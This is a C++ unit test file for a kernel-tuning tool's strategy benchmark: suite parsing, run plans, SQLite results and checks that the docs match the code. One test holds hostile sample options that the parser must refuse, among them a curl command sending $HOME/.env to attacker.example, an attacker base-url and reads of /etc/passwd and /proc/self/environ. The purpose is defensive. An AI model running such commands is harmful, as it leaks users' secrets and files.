// Strategy benchmarking without processes (docs/bench-strategies.md): suite parsing and its
// one-line errors, the plan of runs, the SQLite database and the table computed by its query, and
// that the docs show the schema and query the code uses.

#include "engine/report/bench_database.hpp"
#include "engine/report/strategy_suite.hpp"
#include "harness/core/error.hpp"
#include "harness/core/json_file.hpp"
#include "tests/engine/report/report_test_support.hpp"

#include <boost/json.hpp>
#include <boost/test/unit_test.hpp>

#include <algorithm>
#include <fstream>
#include <sqlite3.h>
#include <sstream>

using namespace warpsmith;
using namespace warpsmith::report;
using namespace warpsmith::test;
namespace fs = std::filesystem;
namespace json = boost::json;

namespace
{

const char* good_suite = R"({
  "name": "mini",
  "workloads": ["wl/a", "/abs/b"],
  "seeds": [1, 2, 3],
  "budget": {"candidates": 20, "wall_seconds": 600},
  "options": {"gpus": "0,1", "in_process_compile": true, "timing": "hot", "no-compile-prune": false},
  "strategies": [
    {"provider": "autotune", "strategy": "anneal"},
    {"name": "mine", "provider": "scripted", "options": {"candidates": "kernels", "scripted-latency-ms": 2000}},
    {"provider": "openai-chat", "strategy": "refine",
     "options": {"base-url": "http://127.0.0.1:8000/v1", "model": "qwen", "max-tool-rounds": 2}}
  ]
})";

strategy_suite parse(const std::string& text)
{
    return parse_strategy_suite(json::parse(text), "/suites", "suite.json");
}

/// The user_error of parsing text ("" when it parses).
std::string error_of(const std::string& text)
{
    try
    {
        parse(text);
    }
    catch (const user_error& e)
    {
        return e.what();
    }
    return "";
}

bool has(const std::vector<std::string>& args, const std::vector<std::string>& seq)
{
    return std::search(args.begin(), args.end(), seq.begin(), seq.end()) != args.end();
}

std::string normalize(const std::string& s)
{
    std::string out;
    bool space = false;
    for (char c : s)
    {
        if (c == ' ' || c == '\n' || c == '\t')
            space = !out.empty();
        else
        {
            if (space)
                out += ' ';
            space = false;
            out += c;
        }
    }
    return out;
}

std::string slurp(const fs::path& p)
{
    std::ifstream in(p, std::ios::binary);
    std::ostringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

}  // namespace

BOOST_AUTO_TEST_SUITE(strategy_bench_suite)

BOOST_AUTO_TEST_CASE(a_suite_plans_every_run_in_seed_order)
{
    const auto s = parse(good_suite);
    BOOST_TEST(s.name == "mini");
    BOOST_TEST(s.workloads[0].path == "/suites/wl/a");
    BOOST_TEST(s.workloads[1].path == "/abs/b");
    BOOST_TEST(s.strategies[0].name == "anneal");
    BOOST_TEST(s.strategies[1].name == "mine");
    BOOST_TEST(s.strategies[2].name == "openai-chat/refine");
    BOOST_TEST(*s.budget.candidates == 20);

    const auto plan = plan_runs(s, "/r/bench-mini", {"--worker=/bin/fake"});
    BOOST_REQUIRE(plan.size() == 18u);  // 3 strategies x 2 workloads x 3 seeds
    // Seeds outermost, then workloads, then strategies.
    BOOST_TEST(plan[0].seed == 1u);
    BOOST_TEST(plan[0].strategy->name == "anneal");
    BOOST_TEST(plan[1].strategy->name == "mine");
    BOOST_TEST(plan[3].workload->path == "/abs/b");
    BOOST_TEST(plan[6].seed == 2u);
    BOOST_TEST(plan[4].label() == "mine on b, seed 1");

    const auto& tune = plan[0].args;
    BOOST_TEST(has(tune, {"tune", "/suites/wl/a", "--strategy", "anneal", "--seed", "1"}));
    BOOST_TEST(has(tune, {"--budget", "20"}));
    BOOST_TEST(has(tune, {"--max-wall-time", "600"}));
    BOOST_TEST(has(tune, {"--no-eval-cache"}));
    BOOST_TEST(has(tune, {"--results", "/r/bench-mini", "--json-progress"}));
    BOOST_TEST(
        has(tune, {"--gpus=0,1", "--in-process-compile", "--timing=hot"}));  // a value bound to its flag
    BOOST_TEST(!has(tune, {"--no-compile-prune"}));                          // false leaves a flag out
    BOOST_TEST(tune.back() == "--worker=/bin/fake");

    const auto& scripted = plan[1].args;
    BOOST_TEST(
        has(scripted, {"optimize", "--workload", "/suites/wl/a", "--provider", "scripted", "--seed", "1"}));
    BOOST_TEST(has(scripted, {"--max-candidates", "20"}));
    BOOST_TEST(has(scripted, {"--candidates=/suites/kernels"}));  // paths resolve against the suite
    BOOST_TEST(has(scripted, {"--scripted-latency-ms=2000"}));
    BOOST_TEST(!has(scripted, {"--strategy"}));
    BOOST_TEST(!has(scripted, {"--no-eval-cache"}));

    const auto& model = plan[2].args;
    BOOST_TEST(has(model, {"--provider", "openai-chat", "--strategy", "refine"}));
    BOOST_TEST(has(model, {"--base-url=http://127.0.0.1:8000/v1", "--model=qwen"}));
    BOOST_TEST(has(model, {"--max-tool-rounds=2"}));
    // The server the suite names gets no API key (a local listener on a shared machine would);
    // runs without a suite base-url keep the user's.
    BOOST_TEST(has(model, {"--no-api-key"}));
    BOOST_TEST(!has(scripted, {"--no-api-key"}));
}

BOOST_AUTO_TEST_CASE(bad_suites_are_one_line_errors_naming_the_field)
{
    const std::vector<std::pair<std::string, std::string>> cases{
        {R"([1, 2])", "must be a JSON object"},
        {R"({"workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, "strategies": [{"provider": "scripted"}]})",
         "suite.json: name: missing"},
        {R"({"name": "x", "workloads": [], "seeds": [1], "budget": {"candidates": 1}, "strategies": [{"provider": "s"}]})",
         "suite.json: workloads: must be a non-empty array"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1, -2], "budget": {"candidates": 1}, "strategies": [{"provider": "s"}]})",
         "suite.json: seeds[1]: must be a non-negative integer"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [4, 4], "budget": {"candidates": 1}, "strategies": [{"provider": "s"}]})",
         "seeds[1]: seed 4 is listed twice"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "strategies": [{"provider": "s"}]})",
         "suite.json: budget: missing"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {}, "strategies": [{"provider": "s"}]})",
         "budget: give at least one of"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"evals": 3}, "strategies": [{"provider": "s"}]})",
         "suite.json: budget.evals: unknown key"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 2.5}, "strategies": [{"provider": "s"}]})",
         "budget.candidates: must be a positive integer"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, "strategies": [{"provider": "s"}], "colour": 1})",
         "suite.json: colour: unknown key"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, "strategies": []})",
         "suite.json: strategies: must be a non-empty array"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, "strategies": [{"provider": "autotune"}]})",
         "strategies[0].strategy: provider autotune needs one of grid, random, local, anneal, genetic"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1},
             "strategies": [{"provider": "autotune", "strategy": "anneal"}, {"provider": "autotune", "strategy": "anneal"}]})",
         "strategies[1].name: 'anneal' is used twice"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1},
             "strategies": [{"provider": "scripted", "options": {"seed": 3}}]})",
         "strategies[0].options: 'seed' is set by the suite itself"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, "options": {"max-candidates": 3},
             "strategies": [{"provider": "scripted"}]})",
         "suite.json: options: 'max-candidates' is set by the suite itself"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1},
             "strategies": [{"provider": "scripted", "options": ["--gpus", "0"]}]})",
         "strategies[0].options: must be an object of flags"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1},
             "strategies": [{"provider": "scripted", "options": {"Bad Flag": 1}}]})",
         "is not a flag name"},
        {R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1},
             "strategies": [{"provider": "scripted", "temperature": 1}]})",
         "strategies[0].temperature: unknown key"},
        {R"({"name": "has space", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, "strategies": [{"provider": "s"}]})",
         "suite.json: name: 'has space' may use"},
        {R"({"name": "x/../../../elsewhere", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, "strategies": [{"provider": "s"}]})",
         "suite.json: name: 'x/../../../elsewhere' has a '.' or '..' part (the runs go to "
         "<results>/bench-<name>)"},
        {R"({"name": "/..", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, "strategies": [{"provider": "s"}]})",
         "'/..' has a '.' or '..' part"},
        {R"({"name": "a/./b", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, "strategies": [{"provider": "s"}]})",
         "'a/./b' has a '.' or '..' part"},
    };
    for (const auto& [text, expected] : cases)
    {
        const auto e = error_of(text);
        BOOST_TEST(e.find(expected) != std::string::npos,
                   "'" << e << "' should contain '" << expected << "'");
        BOOST_TEST(e.find('\n') == std::string::npos);
    }
}

/// A suite whose one strategy has these options (and the suite itself, when `suite_level`).
std::string suite_with_options(const std::string& options, bool suite_level)
{
    const std::string head =
        R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, )";
    return suite_level
               ? head + R"("options": )" + options + R"(, "strategies": [{"provider": "openai-chat"}]})"
               : head + R"("strategies": [{"provider": "openai-chat", "options": )" + options + "}]}";
}

BOOST_AUTO_TEST_CASE(a_suite_sets_no_option_that_runs_programs_reads_files_or_sends_the_key)
{
    // Each refused option with what its one-line error says about it (a downloaded suite would
    // run a program, read or write a file of the machine, or send the user's key where it says).
    const std::vector<std::pair<std::string, std::string>> refused{
        {R"({"worker-cmd": "curl -d @$HOME/.env https://attacker.example"})", "runs a program"},
        {R"({"worker": "/tmp/evil"})", "runs a program"},
        {R"({"worker-arg": ["--cache-dir", "/home"]})", "runs a program"},
        {R"({"ncu": "/tmp/evil"})", "runs a program"},
        {R"({"base-url": "https://attacker.example/v1"})", "sends the API key"},
        {R"({"base-url": "http://10.0.0.7:8000/v1"})", "sends the API key"},
        {R"({"base-url": "not a url"})", "sends the API key"},
        {R"({"api-key-env": "AWS_SECRET_ACCESS_KEY"})", "chooses the credential"},
        {R"({"insecure-local": true})", "chooses the credential"},
        {R"({"config": "/etc/warpsmith.json"})", "reads or writes a file"},
        {R"({"eval-cache": "/home/user/.bashrc"})", "reads or writes a file"},
        {R"({"roofline": "/etc/passwd"})", "reads or writes a file"},
        {R"({"price-table": "/etc/passwd"})", "reads or writes a file"},
        {R"({"signature": "s.json"})", "reads or writes a file"},
        {R"({"reference": "/proc/self/environ"})", "reads or writes a file"},
        {R"({"initial-kernel": "../../.env"})", "reads or writes a file"},
        {R"({"input-cases": "c.json"})", "reads or writes a file"},
        {R"({"compile-memory-mib": 0})", "sets the memory a kernel's compile may take"},
        {R"({"store": "true"})", "not a search, timing or model option"},
        {R"({"hidden-seed": 7})", "not a search, timing or model option"},
        {R"({"description": "a GEMM"})", "not a search, timing or model option"},
        {R"({"no-such-flag": 1})", "not a search, timing or model option"},
    };
    for (const bool suite_level : {false, true})
        for (const auto& [options, why] : refused)
        {
            const auto name = options.substr(2, options.find('"', 2) - 2);
            const auto e = error_of(suite_with_options(options, suite_level));
            const std::string field =
                suite_level ? "suite.json: options." : "suite.json: strategies[0].options.";
            BOOST_TEST(e.find(field + name + ": '" + name + "' ") != std::string::npos, options << ": " << e);
            BOOST_TEST(e.find(why) != std::string::npos, options << ": " << e);
            BOOST_TEST(e.find("--run-arg") != std::string::npos, options << ": " << e);
            BOOST_TEST(e.find('\n') == std::string::npos);
        }

    // Search, timing and model options pass, a loopback base-url among them.
    const auto allowed = suite_with_options(
        R"({"gpus": "0,1", "compile-workers": 2, "in-process-compile": true, "launch-timeout-ms": 900,
            "confirm-top": 2, "no-measure": false, "branches": 3, "async": true, "timing": "hot", "warmup": 2,
            "iterations": 20, "target-noise": 0.01, "grace-seconds": 5, "scripted-latency-ms": 10,
            "max-repairs": 1, "population": 8, "option": "--use_fast_math", "no-compile-prune": true,
            "no-eval-cache": true, "use-nsight": true, "profile-budget": 3, "profile-timeout-ms": 1000,
            "model": "qwen", "reasoning-effort": "low", "base-url": "http://127.0.0.1:8000/v1",
            "no-stream": true, "structured-output": "fenced", "llm-timeout": 60, "stream-idle-timeout-s": 30,
            "max-tool-rounds": 2, "nvidia-research": true, "candidates": "kernels", "replay-from": "runs/run-001"})",
        false);
    BOOST_TEST(error_of(allowed) == "");
    BOOST_TEST(error_of(suite_with_options(R"({"base-url": "http://localhost:8000/v1"})", true)) == "");
    BOOST_TEST(error_of(suite_with_options(R"({"base-url": "http://[::1]:8000/v1"})", false)) == "");
    // The suite's own inputs stay inside its folder: its runs read them and copy them into their
    // run directories, which get shared.
    for (const char* outside : {R"({"candidates": "/home/me/kernels"})",
                                R"({"candidates": "../../home/me/kernels"})",
                                R"({"replay-from": "runs/../../elsewhere"})"})
    {
        const auto e = error_of(suite_with_options(outside, false));
        BOOST_TEST(
            e.find("a suite names its own inputs by relative paths inside its folder") != std::string::npos,
            outside << ": " << e);
    }
    BOOST_TEST(error_of(suite_with_options(R"({"candidates": ""})", false)).find("must not be empty") !=
               std::string::npos);
    // Nor through a linked subfolder.
    {
        temp_dir tmp;
        std::filesystem::create_directories(tmp.path() / "suite");
        std::filesystem::create_directories(tmp.path() / "private");
        std::filesystem::create_directory_symlink(tmp.path() / "private", tmp.path() / "suite" / "cands");
        std::string e;
        try
        {
            parse_strategy_suite(json::parse(suite_with_options(R"({"candidates": "cands"})", false)),
                                 tmp.path() / "suite",
                                 "suite.json");
        }
        catch (const user_error& x)
        {
            e = x.what();
        }
        BOOST_TEST(e.find("'cands' leads out of the directory through a symbolic link") != std::string::npos,
                   e);
    }
    // The example of docs/bench-strategies.md, a local model, passes.
    BOOST_TEST(error_of(suite_with_options(
                   R"({"base-url": "http://127.0.0.1:8000/v1", "model": "qwen2.5-coder-32b"})", false)) ==
               "");
}

BOOST_AUTO_TEST_CASE(suite_files_name_the_file_and_check_workloads)
{
    temp_dir tmp;
    std::ofstream(tmp.path() / "broken.json") << "{\"name\": \"x\",\n \"seeds\": [1,]}";
    try
    {
        load_strategy_suite(tmp.path() / "broken.json");
        BOOST_FAIL("expected user_error");
    }
    catch (const user_error& e)
    {
        BOOST_TEST(std::string(e.what()).find("broken.json:2:") != std::string::npos, e.what());
    }
    std::ofstream(tmp.path() / "missing.json")
        << R"({"name": "x", "workloads": ["nowhere"], "seeds": [1], "budget": {"candidates": 1}, "strategies": [{"provider": "scripted"}]})";
    try
    {
        load_strategy_suite(tmp.path() / "missing.json");
        BOOST_FAIL("expected user_error");
    }
    catch (const user_error& e)
    {
        BOOST_TEST(std::string(e.what()).find("workloads[0]: ") != std::string::npos);
        BOOST_TEST(std::string(e.what()).find("nowhere does not exist") != std::string::npos);
    }
    BOOST_CHECK_THROW(load_strategy_suite(tmp.path() / "absent.json"), user_error);
}

BOOST_AUTO_TEST_CASE(the_shipped_suites_load)
{
    const auto sgemm = load_strategy_suite(source_dir() / "bench/suites/autotune-sgemm.json");
    BOOST_TEST(sgemm.strategies.size() == 5u);
    BOOST_TEST(sgemm.seeds.size() == 3u);
    BOOST_TEST(sgemm.workloads[0].name == "sgemm");
    for (const auto& st : sgemm.strategies)
        BOOST_TEST(st.is_tune());
    BOOST_TEST(plan_runs(sgemm, "/tmp/r", {}).size() == 15u);
    const auto smoke = load_strategy_suite(source_dir() / "bench/suites/smoke.json");
    BOOST_TEST(smoke.workloads[0].name == "smoke-vadd");
    BOOST_TEST(plan_runs(smoke, "/tmp/r", {}).size() == 4u);
}

BOOST_AUTO_TEST_CASE(the_database_accumulates_runs_and_computes_the_table)
{
    temp_dir tmp;
    synthetic_run finished(tmp.path() / "run-001");
    synthetic_run interrupted(tmp.path() / "run-002", {.summary = false});
    const auto v1 = load_run_view(finished.dir());
    const auto v2 = load_run_view(interrupted.dir());

    auto suite = parse(good_suite);
    suite.workloads[0].name = "a";
    suite.workloads[1].name = "b";
    const auto plan = plan_runs(suite, "/r", {});
    const auto db_file = tmp.path() / "sub" / "bench.sqlite";
    std::int64_t session = 0;
    {
        bench_database db(db_file);
        session = db.begin_session(suite, "warpsmith bench-strategies suite.json");
        // anneal on a: seeds 1, 2 and 3 (plan 0, 6, 12); mine on a: seed 1 only, with no run directory.
        db.add_run(session, suite, plan[0], 0, "", "t0", "t1", v1);
        db.add_run(session, suite, plan[6], 130, "", "t0", "t1", v2);
        db.add_run(session, suite, plan[12], 0, "", "t0", "t1", v1);
        db.add_run(session, suite, plan[1], 1, "the search failed: boom", "t0", "t1", std::nullopt);
        db.end_session(session, "finished");
        BOOST_TEST(*db.latest_session("mini") == session);
        BOOST_TEST(!db.latest_session("other"));

        const auto table = db.table(session);
        BOOST_REQUIRE(table.size() == 2u);
        const auto& anneal = table[0];
        BOOST_TEST(anneal.strategy == "anneal");
        BOOST_TEST(anneal.workload == "a");
        BOOST_TEST(anneal.runs == 3);
        BOOST_TEST(anneal.runs_with_best == 3);
        // Confirmed speedup (2.9) twice, search speedup of the interrupted run once.
        const double interrupted_speedup = 200.0 / std::sqrt(66.0 * 70.0);
        BOOST_TEST(*anneal.speedup.max == interrupted_speedup, boost::test_tools::tolerance(1e-9));
        BOOST_TEST(*anneal.speedup.min == 2.9, boost::test_tools::tolerance(1e-9));
        BOOST_TEST(*anneal.speedup.mean == (2.9 * 2 + interrupted_speedup) / 3,
                   boost::test_tools::tolerance(1e-9));
        BOOST_TEST(*anneal.evaluated.mean == 5.0);
        BOOST_TEST(*anneal.valid_pct.mean == 60.0, boost::test_tools::tolerance(1e-9));
        BOOST_TEST(*anneal.roofline_pct.mean > 0.0);
        BOOST_TEST(*anneal.time_to_best_s.min > 0.0);
        const auto& mine = table[1];
        BOOST_TEST(mine.strategy == "mine");
        BOOST_TEST(mine.runs == 1);
        BOOST_TEST(mine.runs_with_best == 0);
        BOOST_TEST(!mine.speedup.mean);

        const auto text = format_table(table);
        BOOST_TEST(text.rfind("strategy  workload", 0) == 0u);
        BOOST_TEST(text.find("2.91x (2.90-2.94)") != std::string::npos, text);
        BOOST_TEST(text.find("1 (1 no valid)") != std::string::npos, text);
    }
    // Plain SQL reads what was written: one row per run and one per candidate.
    sqlite3* raw = nullptr;
    BOOST_REQUIRE(sqlite3_open(db_file.c_str(), &raw) == SQLITE_OK);
    auto scalar = [&](const char* sql)
    {
        sqlite3_stmt* st = nullptr;
        BOOST_REQUIRE(sqlite3_prepare_v2(raw, sql, -1, &st, nullptr) == SQLITE_OK);
        BOOST_REQUIRE(sqlite3_step(st) == SQLITE_ROW);
        std::string v =
            sqlite3_column_text(st, 0) ? reinterpret_cast<const char*>(sqlite3_column_text(st, 0)) : "NULL";
        sqlite3_finalize(st);
        return v;
    };
    BOOST_TEST(scalar("SELECT COUNT(*) FROM runs") == "4");
    BOOST_TEST(scalar("SELECT COUNT(*) FROM candidates") == "18");
    BOOST_TEST(scalar("SELECT failure_kind FROM candidates WHERE run_id = 1 AND candidate = 'c0002'") ==
               "mismatch");
    BOOST_TEST(scalar("SELECT status FROM candidates WHERE run_id = 1 AND candidate = 'c0006'") == "pending");
    BOOST_TEST(scalar("SELECT error FROM runs WHERE strategy = 'mine'") == "the search failed: boom");
    BOOST_TEST(scalar("SELECT status FROM runs WHERE id = 2") == "incomplete");
    BOOST_TEST(scalar("SELECT value FROM meta WHERE key = 'schema_version'") == "1");
    BOOST_TEST(scalar("SELECT status FROM sessions") == "finished");
    sqlite3_close(raw);

    // A second session appends.
    bench_database again(db_file);
    const auto s2 = again.begin_session(suite, "again");
    BOOST_TEST(s2 == session + 1);
    BOOST_TEST(again.table(s2).empty());
}

BOOST_AUTO_TEST_CASE(a_file_that_is_not_a_database_is_one_line)
{
    temp_dir tmp;
    std::ofstream(tmp.path() / "notes.sqlite")
        << "these are my notes, not a database; " << std::string(4096, 'x');
    try
    {
        bench_database db(tmp.path() / "notes.sqlite");
        BOOST_FAIL("expected user_error");
    }
    catch (const user_error& e)
    {
        BOOST_TEST(std::string(e.what()).find("notes.sqlite") != std::string::npos);
        BOOST_TEST(std::string(e.what()).find('\n') == std::string::npos);
    }
}

BOOST_AUTO_TEST_CASE(the_docs_show_the_schema_and_the_query)
{
    const auto doc = normalize(slurp(source_dir() / "docs/bench-strategies.md"));
    BOOST_TEST(doc.find(normalize(bench_database::table_sql())) != std::string::npos,
               "docs/bench-strategies.md must contain bench_database::table_sql()");
    BOOST_TEST(doc.find(normalize(bench_database::schema_sql())) != std::string::npos,
               "docs/bench-strategies.md must contain bench_database::schema_sql()");
}

BOOST_AUTO_TEST_CASE(the_docs_suite_example_is_the_smoke_suite)
{
    const auto doc = slurp(source_dir() / "docs/bench-strategies.md");
    const auto section = doc.find("## Suite files");
    BOOST_REQUIRE(section != std::string::npos);
    const auto begin = doc.find("```json\n", section);
    BOOST_REQUIRE(begin != std::string::npos);
    const auto end = doc.find("```", begin + 8);
    const auto example = doc.substr(begin + 8, end - begin - 8);
    const auto from_doc = parse_strategy_suite(json::parse(example), source_dir() / "bench/suites", "docs");
    const auto shipped = load_strategy_suite(source_dir() / "bench/suites/smoke.json");
    BOOST_TEST(json::serialize(from_doc.json) == json::serialize(shipped.json));
}

BOOST_AUTO_TEST_SUITE_END()
